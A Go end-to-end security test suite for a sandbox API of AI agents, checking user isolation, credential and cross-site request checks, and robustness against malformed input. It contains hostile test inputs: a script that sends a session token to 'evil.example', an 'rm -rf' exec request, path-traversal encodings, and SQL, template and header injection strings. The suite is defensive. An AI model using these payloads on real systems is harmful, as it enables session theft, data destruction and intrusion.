package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"gopkg.in/yaml.v3"

	"github.com/agentpod/agentpod/shared/sandbox/clienttest"
)

// The secrets of a stage, none of which may be shown to anybody.
const (
	apiToken        = "api-token-of-the-stage"
	dockerHook      = "webhook-token-of-docker"
	cloudflareHook  = "webhook-token-of-cloudflare"
	apiSecret       = "the secret of the stage, which has 32 bytes and more"
	providerKey     = "sk-ant-the-key-of-a-victim"
	webhookPath     = "/api/v2/cloudflare/webhook"
	sessionCookie   = "better-auth.session_token"
	unknownSandbox  = "sbx-00000000000000000000000000"
	configuredPath  = "/api/providers/configured"
	templatesPath   = "/api/v2/agents/templates"
	streamEndsAfter = 5 * time.Second
)

// stage is an API with everything: Postgres, a gateway, a worker, a service
// credential and webhooks.
type stage struct {
	*api
	g *gateway
	w *clienttest.Worker
}

func newStage(t *testing.T, more ...string) *stage {
	t.Helper()
	s := &stage{g: sharedGateway.get(t), w: clienttest.StartWorker(t)}
	settings := append(workerSettings(s.w), "DATABASE_URL="+postgres.URL(t), encryptionKey, "API_SECRET="+apiSecret, "API_TOKEN="+apiToken,
		"WEBHOOK_TOKEN_DOCKER="+dockerHook, "WEBHOOK_TOKEN_CLOUDFLARE="+cloudflareHook)
	s.api = newAPI(t, s.g, append(settings, more...)...)
	return s
}

// raw sends a request and returns its status and body.
func (c *caller) raw(t testing.TB, method, path string, body any, header http.Header) (int, string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), callTime)
	defer cancel()
	res, err := c.open(ctx, method, path, body, header)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer func() { _ = res.Body.Close() }()
	raw, err := io.ReadAll(io.LimitReader(res.Body, maxReply))
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	return res.StatusCode, string(raw)
}

// cookie signs somebody in as a browser does, and returns the cookie.
func (a *api) cookie(t testing.TB) string {
	t.Helper()
	c := &caller{url: a.url()}
	res, err := c.open(t.Context(), http.MethodPost, "/api/auth/sign-in/email", object{"email": adminEmail, "password": adminPassword}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = res.Body.Close() }()
	for _, k := range res.Cookies() {
		if k.Name == sessionCookie {
			return k.Name + "=" + k.Value
		}
	}
	t.Fatalf("signing in gave no cookie: %d", res.StatusCode)
	return ""
}

// belongings are what a victim has.
type belongings struct {
	box, worker, task, team, template, session string
}

// furnish gives a user one of everything.
func (s *stage) furnish(t testing.TB, c *caller) belongings {
	t.Helper()
	var b belongings
	b.box = c.newBox(t, object{"name": "mine"})
	var ran struct{ TaskID, SandboxID string }
	c.must(t, http.MethodPost, taskPath, object{"message": "the victim's words", "provider": "cloudflare"}, http.StatusOK, &ran)
	b.task, b.worker = ran.TaskID, ran.SandboxID
	var team struct{ TeamID string }
	c.must(t, http.MethodPost, teamPath, object{"agents": []object{{"role": "r", "message": "the victim's words"}}, "provider": "cloudflare"}, http.StatusOK, &team)
	b.team = team.TeamID
	var made struct{ ID string }
	c.must(t, http.MethodPost, templatesPath, object{"name": "mine", "prompt": "the victim's words"}, http.StatusCreated, &made)
	b.template = made.ID
	c.must(t, http.MethodPost, boxPath+b.box+"/opencode/session", object{"title": "the victim's words"}, http.StatusOK, &made)
	b.session = made.ID
	c.must(t, http.MethodPut, boxPath+b.box+"/files/workspace/a.txt", []byte("the victim's words"), http.StatusOK, nil)
	c.must(t, http.MethodPost, "/api/providers/anthropic/configure", object{"apiKey": providerKey}, http.StatusOK, nil)
	root := "/api/users/" + c.userID + "/opencode"
	c.must(t, http.MethodPut, root+"/agents-md", object{"content": "the victim's words"}, http.StatusOK, nil)
	c.must(t, http.MethodPut, root+"/files/agent/mine", object{"content": "the victim's words"}, http.StatusOK, nil)
	return b
}

// view is all that a user sees of what furnish made.
func (c *caller) view(t testing.TB, b belongings) map[string]any {
	t.Helper()
	out := map[string]any{}
	for _, path := range []string{
		"/api/v2/agents/tasks", taskPath + "/" + b.task, teamPath + "/" + b.team, templatesPath, configuredPath,
		"/api/users/" + c.userID + "/opencode/config", boxPath + b.box + "/files/workspace/a.txt", boxPath + b.box + "/opencode/session", boxesPath,
	} {
		status, raw := c.raw(t, http.MethodGet, path, nil, nil)
		if status != http.StatusOK {
			t.Fatalf("%s: %d %s", path, status, raw)
		}
		out[path] = strings.TrimSpace(raw)
	}
	var list struct{ Sandboxes []box }
	c.must(t, http.MethodGet, boxesPath, nil, http.StatusOK, &list)
	for i := range list.Sandboxes { // a look is an access
		list.Sandboxes[i].LastAccessedAt = nil
	}
	out[boxesPath] = list.Sandboxes
	return out
}

func TestNothingOfAnothersIsReachedByPathOrBody(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	victim, eve := s.user(t), s.user(t)
	b := s.furnish(t, victim)
	before := victim.view(t, b)
	type attempt struct {
		method, path string
		body         any
	}
	var all []attempt
	for _, id := range []string{b.box, b.worker, unknownSandbox} {
		root := boxPath + id
		all = append(all,
			attempt{"GET", root, nil}, attempt{"DELETE", root, nil}, attempt{"GET", root + "/status", nil}, attempt{"GET", root + "/logs", nil},
			attempt{"GET", root + "/stats", nil}, attempt{"GET", root + "/ui", nil}, attempt{"POST", root + "/exec", object{"command": []string{"rm", "-rf", "workspace"}}},
			attempt{"GET", root + "/files/workspace/a.txt", nil}, attempt{"PUT", root + "/files/workspace/a.txt", []byte("eve's")},
			attempt{"DELETE", root + "/files/workspace/a.txt", nil}, attempt{"GET", root + "/files/", nil},
			attempt{"GET", root + "/opencode/session", nil}, attempt{"POST", root + "/opencode/session", object{}},
			attempt{"DELETE", root + "/opencode/session/" + b.session, nil}, attempt{"GET", root + "/opencode/event", nil},
			attempt{"POST", root + "/opencode/session/" + b.session + "/message", object{"parts": []object{{"type": "text", "text": "x"}}}},
			attempt{"POST", root + "/sync", nil}, attempt{"POST", "/api/v2/agents/sandbox/" + id + "/sync", nil},
			attempt{"POST", taskPath, object{"message": "x", "sandboxId": id}}, attempt{"POST", streamPath, object{"message": "x", "sandboxId": id}},
		)
		for _, act := range []string{"start", "stop", "restart", "wake", "pause", "unpause"} {
			all = append(all, attempt{"POST", root + "/" + act, nil})
		}
	}
	for _, id := range []string{b.task, "tsk-unknown"} {
		all = append(all, attempt{"GET", taskPath + "/" + id, nil}, attempt{"GET", taskPath + "/" + id + "/stream", nil}, attempt{"POST", taskPath + "/" + id + "/cancel", nil})
	}
	all = append(all, attempt{"GET", teamPath + "/" + b.team, nil},
		attempt{"PUT", templatesPath + "/" + b.template, object{"name": "eve's", "prompt": "eve's"}}, attempt{"DELETE", templatesPath + "/" + b.template, nil},
		attempt{"DELETE", "/api/providers/anthropic", nil},
		attempt{"POST", boxesPath, object{"name": "x", "userId": victim.userID}}, attempt{"POST", boxesPath, object{"name": "x", "userId": "service"}})
	root := "/api/users/" + victim.userID + "/opencode"
	for _, below := range []string{"/config", "/settings", "/agents-md", "/files", "/files/agent/mine"} {
		all = append(all, attempt{"GET", root + below, nil})
	}
	all = append(all, attempt{"PUT", root + "/settings", object{"settings": object{}}}, attempt{"PUT", root + "/agents-md", object{"content": "eve's"}},
		attempt{"PUT", root + "/files/agent/mine", object{"content": "eve's"}}, attempt{"DELETE", root + "/files/agent/mine", nil})
	known, unknown := map[string]string{}, map[string]string{}
	for _, x := range all {
		status, raw := eve.raw(t, x.method, x.path, x.body, http.Header{"Last-Event-ID": {"0"}})
		if status != http.StatusNotFound || strings.Contains(raw, "victim") {
			t.Errorf("%s %s: %d %s", x.method, x.path, status, raw)
		}
		// Whether it exists at all is not to be seen.
		if rest, ok := strings.CutPrefix(x.path, boxPath+b.box); ok {
			known[x.method+rest] = strings.ReplaceAll(raw, b.box, "ID")
		}
		if rest, ok := strings.CutPrefix(x.path, boxPath+unknownSandbox); ok {
			unknown[x.method+rest] = strings.ReplaceAll(raw, unknownSandbox, "ID")
		}
	}
	if !maps.Equal(known, unknown) {
		t.Errorf("another's sandbox is told from none:\n%v\n%v", known, unknown)
	}
	for path, empty := range map[string]string{
		boxesPath + "?userId=" + victim.userID: `"count":0`, "/api/v2/agents/tasks?userId=" + victim.userID: `"tasks":[]`, configuredPath + "?userId=" + victim.userID: `"providers":[]`,
	} {
		if _, raw := eve.raw(t, http.MethodGet, path, nil, nil); !strings.Contains(raw, empty) {
			t.Errorf("%s: %s", path, raw)
		}
	}
	// An admin may act for others, but for no user who is none.
	admin := s.admin(t)
	for _, nobody := range []string{"nobody", "a\x00", "' OR ''='"} {
		admin.must(t, http.MethodPost, boxesPath, object{"name": "x", "userId": nobody}, http.StatusNotFound, nil)
	}
	// A session of another's, in a sandbox of one's own.
	var own struct{ SandboxID string }
	eve.must(t, http.MethodPost, taskPath, object{"message": "x", "provider": "cloudflare"}, http.StatusOK, &own)
	if _, raw := eve.raw(t, http.MethodGet, boxPath+own.SandboxID+"/opencode/session/"+b.session+"/message", nil, nil); strings.Contains(raw, "victim") {
		t.Errorf("another's session: %s", raw)
	}
	if after := victim.view(t, b); !reflect.DeepEqual(before, after) {
		t.Errorf("it was\n%v\nand is\n%v", before, after)
	}

	t.Run("an encoded path leads nowhere else", func(t *testing.T) { s.encodedPaths(t, victim, eve, own.SandboxID, b) })
	t.Run("a sandbox's answer is caged", func(t *testing.T) { s.cage(t, victim, b) })
	t.Run("a deleted sandbox ends its streams", func(t *testing.T) {
		for _, id := range []string{b.worker, b.box} {
			ended := victim.watch(t, boxPath+id+"/opencode/event")
			victim.must(t, http.MethodDelete, boxPath+id, nil, http.StatusOK, nil)
			ended.within(t, streamEndsAfter)
		}
	})
}

// wire sends a request line as it is, which no client of net/http would, and
// returns the answer's status and body.
func (c *caller) wire(t testing.TB, method, target string) (int, string) {
	t.Helper()
	host := strings.TrimPrefix(c.url, "http://")
	var dialer net.Dialer
	conn, err := dialer.DialContext(t.Context(), "tcp", host)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	_ = conn.SetDeadline(time.Now().Add(time.Minute))
	_, _ = fmt.Fprintf(conn, "%s %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\nContent-Length: 0\r\n\r\n", method, target, host, c.bearer)
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%s %s: %v", method, target, err)
	}
	defer func() { _ = res.Body.Close() }()
	raw, _ := io.ReadAll(io.LimitReader(res.Body, maxReply))
	return res.StatusCode, string(raw)
}

// encodedPaths tries to leave a sandbox for another one, and for other routes.
func (s *stage) encodedPaths(t *testing.T, victim, eve *caller, own string, b belongings) {
	before := victim.view(t, b)
	asking := len(s.w.Requests())
	var steps []string
	for _, dots := range []string{"..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", "%25252e%25252e", "..;", "..;x=y", "%2e%2e%3b", "%c0%ae%c0%ae"} {
		for _, slash := range []string{"/", "%2f", "%252f", `\`, "%5c", "%255c", "//", "/./", ";/"} {
			steps = append(steps, dots+slash)
		}
	}
	steps = append(steps, "%00/", "%0d%0a/", "%0a", "\x7f/", "%ff/")
	type place struct {
		c    *caller
		root string
		own  string
		to   []string
	}
	gw := s.g.caller()
	for _, p := range []place{
		{eve, boxPath, own, []string{b.box, b.worker}},
		{victim, boxPath, b.box, []string{own}},
		{gw, "/sandbox/", b.box, []string{"some-other"}},
	} {
		for _, to := range p.to {
			for _, step := range steps {
				for _, target := range []string{
					p.root + p.own + "/opencode/" + step + step + to + "/opencode/session",
					p.root + p.own + "/opencode/session/" + step + step + step + to,
					p.root + p.own + "/files/workspace/" + step + step + step + to + "/files/workspace/a.txt",
					p.root + p.own + step + to + "/files/workspace/a.txt",
					p.root + step + "sandboxes/" + to,
				} {
					for _, method := range []string{http.MethodGet, http.MethodDelete} {
						status, raw := p.c.wire(t, method, target)
						if status != http.StatusBadRequest && status != http.StatusNotFound || strings.Contains(raw, "victim's") {
							t.Errorf("%s %q: %d %s", method, target, status, raw)
						}
					}
				}
			}
		}
	}
	// What is refused by the sandbox's own OpenCode may be asked for; nothing else.
	for _, r := range s.w.Requests()[asking:] {
		if r.Path != "/health" && !strings.HasPrefix(r.Path, "/sandbox/"+own+"/opencode/") {
			t.Errorf("the worker was asked for %s %s", r.Method, r.Target)
		}
	}
	if after := victim.view(t, b); !reflect.DeepEqual(before, after) {
		t.Errorf("it was\n%v\nand is\n%v", before, after)
	}
}

// cage looks at what a browser would get of a sandbox under the API's origin.
func (s *stage) cage(t *testing.T, victim *caller, b belongings) {
	const page = `<script>fetch("/api/auth/get-session",{credentials:"include"}).then(r=>r.json()).then(s=>fetch("https://evil.example/"+s.session.token))</script>`
	hostile := func(rw http.ResponseWriter, _ *http.Request) {
		for name, value := range map[string]string{
			"Content-Type": "text/html", "Set-Cookie": sessionCookie + "=fixed; Path=/", "Access-Control-Allow-Origin": "null", "Access-Control-Allow-Credentials": "true",
			"Clear-Site-Data": "*", "Content-Security-Policy": "default-src *", "X-Content-Type-Options": "off", "Service-Worker-Allowed": "/", "Refresh": "0;url=/",
			"Set-Auth-Token": "fixed", "X-Request-Id": "forged", "Strict-Transport-Security": "max-age=1",
		} {
			rw.Header().Set(name, value)
		}
		_, _ = io.WriteString(rw, page)
	}
	s.w.Break(http.MethodGet, "/page.html", 0, hostile)
	victim.must(t, http.MethodPut, boxPath+b.box+"/files/workspace/evil.html", []byte(page), http.StatusOK, nil)
	for _, path := range []string{
		boxPath + b.worker + "/opencode/page.html", boxPath + b.box + "/opencode/session", boxPath + b.box + "/opencode/none.html",
		boxPath + b.box + "/opencode/file/content?path=evil.html", boxPath + b.box + "/files/workspace/evil.html",
	} {
		res, err := victim.open(t.Context(), http.MethodGet, path, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		_ = res.Body.Close()
		h := res.Header
		if !slices.Equal(h.Values("Content-Security-Policy"), []string{"sandbox"}) || !slices.Equal(h.Values("X-Content-Type-Options"), []string{"nosniff"}) ||
			h.Get("Access-Control-Allow-Origin") != "" || h.Get("Clear-Site-Data") != "" || h.Get("Service-Worker-Allowed") != "" || h.Get("Refresh") != "" ||
			h.Get("Set-Auth-Token") != "" || h.Get("X-Request-Id") == "forged" || strings.Contains(strings.Join(h.Values("Set-Cookie"), " "), "better-auth") {
			t.Errorf("%s: %v", path, h)
		}
	}
	// The page has the origin "null"; the browser adds the cookie.
	cookie := s.cookie(t)
	browser := &caller{url: s.url()}
	var own struct{ SandboxID string } // the cookie's user's
	admin := s.admin(t)
	admin.must(t, http.MethodPost, taskPath, object{"message": "x", "provider": "cloudflare"}, http.StatusOK, &own)
	for _, path := range []string{"/opencode/page.html", "/opencode/session", "/opencode/event"} {
		if status, raw := browser.raw(t, http.MethodGet, boxPath+own.SandboxID+path, nil, http.Header{"Cookie": {cookie}}); status != http.StatusUnauthorized {
			t.Errorf("a cookie opens %s: %d %s", path, status, raw)
		}
	}
	for _, path := range []string{"/api/auth/sign-out", taskPath, boxPath + own.SandboxID + "/opencode/session", "/api/providers/anthropic/configure"} {
		for _, fetched := range []http.Header{{"Origin": {"null"}}, {"Origin": {"null"}, "Sec-Fetch-Site": {"cross-site"}}, {"Sec-Fetch-Site": {"same-site"}}} {
			fetched.Set("Cookie", cookie)
			if status, raw := browser.raw(t, http.MethodPost, path, object{"message": "x", "apiKey": "x"}, fetched); status != http.StatusForbidden {
				t.Errorf("%s with %v: %d %s", path, fetched, status, raw)
			}
		}
	}
	res, err := browser.open(t.Context(), http.MethodGet, "/api/auth/get-session", nil, http.Header{"Origin": {"null"}, "Cookie": {cookie}})
	if err != nil {
		t.Fatal(err)
	}
	_ = res.Body.Close()
	if allowed := res.Header.Get("Access-Control-Allow-Origin"); allowed != "" {
		t.Errorf("%q may read the session", allowed)
	}
}

// open is an answer that goes on until somebody ends it.
type openStream struct{ ended chan struct{} }

// watch opens a stream and reads it until its end.
func (c *caller) watch(t testing.TB, path string) openStream {
	t.Helper()
	ctx, cancel := context.WithCancel(t.Context())
	t.Cleanup(cancel)
	res, err := c.open(ctx, http.MethodGet, path, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != http.StatusOK {
		t.Fatalf("%s: %d", path, res.StatusCode)
	}
	began, s := make(chan struct{}), openStream{make(chan struct{})}
	go func() {
		defer close(s.ended)
		defer func() { _ = res.Body.Close() }()
		if _, err := res.Body.Read(make([]byte, 1)); err == nil {
			close(began)
		}
		_, _ = io.Copy(io.Discard, res.Body)
	}()
	select {
	case <-began:
	case <-s.ended:
		t.Fatalf("%s ended at once", path)
	case <-time.After(finalWithin):
		t.Fatalf("%s says nothing", path)
	}
	return s
}

func (s openStream) within(t testing.TB, limit time.Duration) {
	t.Helper()
	select {
	case <-s.ended:
	case <-time.After(limit):
		t.Errorf("a stream goes on after %s", limit)
	}
}

func TestSigningOutEndsStreamsHereAndElsewhere(t *testing.T) {
	t.Parallel()
	g, w := sharedGateway.get(t), clienttest.StartWorker(t)
	settings := append(workerSettings(w), "DATABASE_URL="+postgres.URL(t), encryptionKey, "API_SECRET="+apiSecret)
	here, elsewhere := newAPI(t, g, settings...), newAPI(t, g, settings...)
	owner := here.admin(t)
	var ran struct{ SandboxID string }
	owner.must(t, http.MethodPost, taskPath, object{"message": "x", "provider": "cloudflare"}, http.StatusOK, &ran)
	w.Break(http.MethodPost, "/message", 0, clienttest.Hang)
	leaver := here.admin(t) // another session of the same user
	there := &caller{url: elsewhere.url(), bearer: leaver.bearer}
	var id string
	owner.stream(t, http.MethodPost, streamPath, object{"message": "x", "sandboxId": ran.SandboxID}, "", func(e event) bool {
		id, _ = e.Data["taskId"].(string)
		return true
	})
	atHome := []openStream{leaver.watch(t, boxPath+ran.SandboxID+"/opencode/event"), leaver.watch(t, taskPath+"/"+id+"/stream")}
	away := []openStream{there.watch(t, boxPath+ran.SandboxID+"/opencode/event"), there.watch(t, taskPath+"/"+id+"/stream")}
	stays := owner.watch(t, taskPath+"/"+id+"/stream")
	leaver.must(t, http.MethodPost, "/api/auth/sign-out", object{}, http.StatusOK, nil)
	for _, s := range atHome {
		s.within(t, streamEndsAfter)
	}
	for _, s := range away {
		s.within(t, 20*time.Second)
	}
	select {
	case <-stays.ended:
		t.Error("the stream of another session ended too")
	default:
	}
	for _, c := range []*caller{leaver, there} {
		c.must(t, http.MethodGet, "/api/v2/agents/tasks", nil, http.StatusUnauthorized, nil)
	}
	owner.must(t, http.MethodPost, taskPath+"/"+id+"/cancel", nil, http.StatusOK, nil)
}

// route is a route of the API, with texts in place of its parameters.
type route struct{ method, path string }

// routes reads the API's document.
func (a *api) routes(t testing.TB) []route {
	t.Helper()
	c := &caller{url: a.url()}
	_, raw := c.raw(t, http.MethodGet, "/openapi.yaml", nil, nil)
	var doc struct{ Paths map[string]map[string]any }
	if err := yaml.Unmarshal([]byte(raw), &doc); err != nil {
		t.Fatal(err)
	}
	var all []route
	for path, item := range doc.Paths {
		for method := range item {
			if method == "parameters" {
				continue
			}
			all = append(all, route{strings.ToUpper(method), strings.NewReplacer("{type}", "agent", "{name}", "x", "{path}", "x").Replace(path)})
		}
	}
	if len(all) < 50 {
		t.Fatalf("there are %d routes", len(all))
	}
	slices.SortFunc(all, func(a, b route) int { return strings.Compare(a.path+a.method, b.path+b.method) })
	return all
}

var parameter = regexp.MustCompile(`\{\w+\}`)

func (r route) at(id string) string { return parameter.ReplaceAllString(r.path, id) }

func (r route) public() bool {
	return slices.Contains([]string{"/health", "/readyz", "/openapi.yaml"}, r.path) || strings.HasPrefix(r.path, "/api/auth/")
}

func (r route) changes() bool {
	return !slices.Contains([]string{http.MethodGet, http.MethodHead, http.MethodOptions}, r.method)
}

func TestBorders(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	owner := s.admin(t)
	routes := s.routes(t)
	var ran struct{ TaskID, SandboxID string }
	owner.must(t, http.MethodPost, taskPath, object{"message": "x", "provider": "cloudflare"}, http.StatusOK, &ran)

	t.Run("every route but the public ones wants a credential", func(t *testing.T) {
		for _, r := range routes {
			for name, header := range map[string]http.Header{
				"none": nil, "an unknown token": {"Authorization": {"Bearer " + rand.Text()}}, "an unsigned cookie": {"Cookie": {sessionCookie + "=" + owner.bearer}},
				"a token of another kind": {"Authorization": {"Basic " + owner.bearer}}, "a webhook's token": {"Authorization": {"Bearer " + dockerHook}},
				"a token in the query": nil,
			} {
				if name == "a webhook's token" && r.path == webhookPath {
					continue
				}
				path := r.at(ran.SandboxID)
				if name == "a token in the query" && !strings.Contains(r.path, "/opencode/x") {
					path += "?token=" + owner.bearer
				}
				status, raw := (&caller{url: s.url()}).raw(t, r.method, path, object{}, header)
				if (status == http.StatusUnauthorized) == (r.public() && r.path != "/api/auth/sign-in/email") {
					if r.path == "/api/auth/sign-in/email" && status == http.StatusBadRequest {
						continue
					}
					t.Errorf("%s %s with %s: %d %s", r.method, path, name, status, raw)
				}
			}
		}
	})

	t.Run("a foreign page changes nothing", func(t *testing.T) {
		cookie := s.cookie(t)
		browser := &caller{url: s.url()}
		for _, r := range routes {
			if r.path == webhookPath {
				continue // no cookie counts there
			}
			for _, header := range []http.Header{
				{"Origin": {"https://evil.example"}},
				{"Origin": {s.url() + ".evil.example"}},
				{"Origin": {"null"}},
				{"Sec-Fetch-Site": {"cross-site"}},
				{"Sec-Fetch-Site": {"same-site"}},
				{"Origin": {s.url()}, "Sec-Fetch-Site": {"cross-site"}},
			} {
				header.Set("Cookie", cookie)
				if !r.changes() { // but a WebSocket
					header.Set("Connection", "Upgrade")
					header.Set("Upgrade", "websocket")
					header.Set("Sec-WebSocket-Version", "13")
					header.Set("Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA==")
				}
				var body any
				if r.changes() {
					body = object{}
				}
				if status, raw := browser.raw(t, r.method, r.at(ran.SandboxID), body, header); status != http.StatusForbidden {
					t.Errorf("%s %s with %v: %d %s", r.method, r.path, header, status, raw)
				}
			}
		}
		status, raw := browser.raw(t, http.MethodGet, "/api/auth/get-session", nil, http.Header{"Cookie": {cookie}})
		if status != http.StatusOK || !strings.Contains(raw, adminEmail) {
			t.Errorf("the session is gone: %d %s", status, raw)
		}
		owner.must(t, http.MethodGet, boxPath+ran.SandboxID, nil, http.StatusOK, nil)
	})

	t.Run("no body is too much", func(t *testing.T) {
		fields := func(value string) []byte {
			names := []string{
				"message", "name", "prompt", "content", "apiKey", "email", "password", "githubUrl", "gitUrl", "gitBranch", "role", "command", "settings", "description",
				"provider", "userId", "sandboxId", "model", "icon", "category", "event", "timestamp", "extension", "workingDir", "image", "placeholders", "agents", "data",
			}
			for i, name := range names {
				names[i] = fmt.Sprintf("%q:%s", name, value)
			}
			return []byte("{" + strings.Join(names, ",") + "}")
		}
		user := s.user(t)
		bodies := map[string][]byte{
			"3 MiB":                    append(append([]byte(`{"message":"`), bytes.Repeat([]byte("x"), 3<<20)...), `"}`...),
			"9000 deep":                fields(strings.Repeat("[", 9000) + strings.Repeat("]", 9000)),
			"100 000 deep":             fields(strings.Repeat(`{"a":`, 100_000) + "1" + strings.Repeat("}", 100_000)),
			"NUL in every field":       fields(`"a\u0000b"`),
			"a NUL byte":               fields("\"a\x00b\""),
			"no UTF-8":                 fields("\"a\xff\xfeb\""),
			"half a surrogate":         fields(`"a\ud800b"`),
			"line breaks":              fields(`"a\r\nSet-Cookie: x=y\r\n\r\nb"`),
			"numbers":                  fields("1e400"),
			"lists":                    fields(`["a",null,{}]`),
			"objects":                  fields(`{"providerID":"a\u0000","modelID":"b\u0000"}`),
			"null":                     fields("null"),
			"an array":                 []byte("[]"),
			"half an object":           []byte(`{"message":"x`),
			"no JSON":                  []byte("message=x"),
			"a number":                 []byte("1"),
			"the same field, often":    []byte(`{` + strings.Repeat(`"name":"x",`, 10_000) + `"name":""}`),
			"a BOM":                    []byte("\xef\xbb\xbf{}"),
			"UTF-16":                   []byte("\xff\xfe{\x00}\x00"),
			"a field called prototype": []byte(`{"__proto__":{"role":"admin"},"constructor":{"prototype":{}}}`),
		}
		bodiless := func(path string) bool {
			return strings.HasSuffix(path, "/sign-out") || strings.HasSuffix(path, "/set-default")
		}
		takes := 0
		for _, r := range routes {
			if !r.changes() || strings.Contains(r.path, "/opencode/x") || strings.Contains(r.path, "/files/x") && strings.Contains(r.path, "sandboxes") {
				continue // those carry any bytes
			}
			for name, body := range bodies {
				header, c := http.Header(nil), user
				if r.path == webhookPath {
					header = http.Header{"Authorization": {"Bearer " + dockerHook}}
				}
				if r.path == "/api/auth/sign-out" {
					c = &caller{url: s.url()}
				}
				path := strings.ReplaceAll(r.at("none"), "/api/users/none/", "/api/users/"+user.userID+"/")
				path = strings.ReplaceAll(path, "/providers/none/", "/providers/openai/")
				status, raw := c.raw(t, r.method, path, body, header)
				if status == http.StatusTooManyRequests && strings.HasPrefix(r.path, "/api/auth/") {
					continue
				}
				if status >= 500 {
					t.Errorf("%s %s with %s: %d %s", r.method, path, name, status, raw)
				}
				if name == "3 MiB" && status == http.StatusRequestEntityTooLarge {
					takes++
				}
				if name == "3 MiB" && status < 400 && !bodiless(r.path) {
					t.Errorf("%s %s took 3 MiB: %d %s", r.method, path, status, raw)
				}
			}
		}
		// sign-up, sign-in, task, stream, team, two of templates, sandboxes, exec, configure, three of configs, webhook
		if takes < 12 {
			t.Errorf("%d routes said that a body is too large", takes)
		}
	})

	t.Run("no parameter breaks anything", func(t *testing.T) {
		for _, value := range []string{
			"%00", "a%00b", "%ff", "%FF", "a%C0%AFb", "%ED%A0%80", "'%3b%20DROP%20TABLE%20users%3b--", "%22%20OR%201=1--", "1%27%20OR%20%271%27=%271", "%25", "%25s%25n", "*", "_",
			"%0d%0aSet-Cookie:%20x=y", "%f0%9f%92%a5", strings.Repeat("a", 4000), "..%2f..", "$1", "%7b%7b7*7%7d%7d",
		} {
			for _, r := range routes {
				if r.public() || r.path == webhookPath {
					continue
				}
				for _, target := range []string{r.at(value), r.at(ran.TaskID) + "?limit=" + value + "&offset=" + value + "&status=" + value + "&userId=" + value + "&tail=" + value + "&mode=" + value + "&popularOnly=" + value} {
					if r.changes() && strings.Contains(target, "?") || strings.Contains(target, "opencode/x") {
						continue
					}
					status, raw := owner.wire(t, r.method, target)
					if status >= 500 || strings.Contains(raw, "SQLSTATE") || strings.Contains(raw, "pq:") {
						t.Errorf("%s %s: %d %s", r.method, target, status, raw)
					}
				}
			}
		}
		for _, id := range []string{"-1", "1e3", "x", "9223372036854775808", "0x1", "1 OR 1=1", "1\t", "\u0661"} {
			if status, raw := owner.raw(t, http.MethodGet, taskPath+"/"+ran.TaskID+"/stream", nil, http.Header{"Last-Event-ID": {id}}); status >= 500 || status == http.StatusOK && id != "1\t" {
				t.Errorf("Last-Event-ID %q: %d %s", id, status, raw)
			}
		}
	})

	t.Run("a text comes back as it went in", func(t *testing.T) { s.texts(t) })
	t.Run("nothing is assigned that is the server's", func(t *testing.T) { s.assign(t) })
	t.Run("no client chooses its session", func(t *testing.T) { s.fixation(t) })
	t.Run("webhooks change what is their provider's", func(t *testing.T) { s.webhooks(t, owner, ran.SandboxID) })
	t.Run("no secret is shown", func(t *testing.T) { s.secrets(t) })
}

// texts sends what a database, a template or a terminal could take for its own.
func (s *stage) texts(t *testing.T) {
	c := s.user(t)
	for _, text := range []string{
		`'; DROP TABLE users; --`, `" OR ""="`, `%_\`, `\'; SELECT pg_sleep(100); --`, `$1 ?  :name @p1`, `{{.}} ${7*7} #{7*7}`, `<script>alert(1)</script>`,
		"\u202egnp.exe \U0001f4a5 e\u0301", `null`, `'`, `\u0000 \x00 %00`, `../../etc/passwd`,
	} {
		var made struct {
			Sandbox struct{ ID, Name, Description string }
		}
		c.must(t, http.MethodPost, boxesPath, object{"name": text, "description": text, "autoStart": false}, http.StatusCreated, &made)
		c.must(t, http.MethodGet, boxPath+made.Sandbox.ID, nil, http.StatusOK, &made)
		var got struct{ TaskID, Response string }
		c.must(t, http.MethodPost, taskPath, object{"message": "x " + text, "provider": "cloudflare"}, http.StatusOK, &got)
		kept := c.final(t, got.TaskID, time.Second)
		var team struct {
			Agents []struct{ Role, Response string }
		}
		c.must(t, http.MethodPost, teamPath, object{"agents": []object{{"role": "r", "message": text}}, "provider": "cloudflare"}, http.StatusOK, &team)
		var template struct {
			Name, Description, Icon, Category, Prompt string
		}
		c.must(t, http.MethodPost, templatesPath, object{"name": text, "description": text, "icon": text, "category": text, "prompt": text}, http.StatusCreated, &template)
		root := "/api/users/" + c.userID + "/opencode"
		c.must(t, http.MethodPut, root+"/settings", object{"settings": object{"a": text, text: 1}}, http.StatusOK, nil)
		c.must(t, http.MethodPut, root+"/agents-md", object{"content": text}, http.StatusOK, nil)
		c.must(t, http.MethodPut, root+"/files/agent/mine", object{"content": text}, http.StatusOK, nil)
		var config struct {
			Settings map[string]any
			AgentsMD string `json:"agents_md"`
			Files    []struct{ Content string }
		}
		c.must(t, http.MethodGet, root+"/config", nil, http.StatusOK, &config)
		email := strings.ToLower(rand.Text()[:10]) + "@example.com"
		var user struct{ User struct{ Name, Image string } }
		if status, raw := (&caller{url: s.url()}).raw(t, http.MethodPost, "/api/auth/sign-up/email", object{"email": email, "password": adminPassword + text, "name": text, "image": text}, nil); status == http.StatusOK {
			if err := json.Unmarshal([]byte(raw), &user); err != nil {
				t.Fatal(err)
			}
			c.must(t, http.MethodPost, "/api/auth/sign-in/email", object{"email": email, "password": adminPassword + text}, http.StatusOK, nil)
		} else {
			t.Errorf("signing up as %q: %d %s", text, status, raw)
		}
		for where, back := range map[string]string{
